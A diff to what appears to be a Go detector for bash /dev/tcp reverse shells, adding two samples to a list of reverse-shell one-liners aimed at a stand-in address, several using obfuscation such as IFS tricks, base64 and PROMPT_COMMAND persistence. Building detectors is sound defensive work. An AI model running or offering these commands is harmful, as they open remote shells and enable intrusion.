@@ -26,6 +26,8 @@ var shellDevtcp = Detector{
 		"nohup bash -c 'bash -i >& /dev/tcp/198.51.100.7/4242 0>&1' &",
 		"R=198.51.100.7; P=4242; bash${IFS}-i >&/dev/tcp/$R/$P 0>&1",
 		"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDI0MiAwPiYx | base64 -d | bash",
+		"/${u}bin/bash -l > /${u}dev/tcp/198.51.100.7/4242 0<&1 2>&1",
+		"export PROMPT_COMMAND='bash -i >& /dev/tcp/198.51.100.7/1 0>&1'",
 		"cp /bin/bash /tmp/k && /tmp/k -i >& /dev/tcp/198.51.100.7/1 0>&1",
 		"coproc bash -i; cat <&\"${COPROC[0]}\" >/dev/tcp/198.51.100.7/4444 & cat </dev/tcp/198.51.100.7/4445 >&\"${COPROC[1]}\"",
 		"python3 -c 'import os; os.system(\"bash -c \\\"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\\\"\")'",
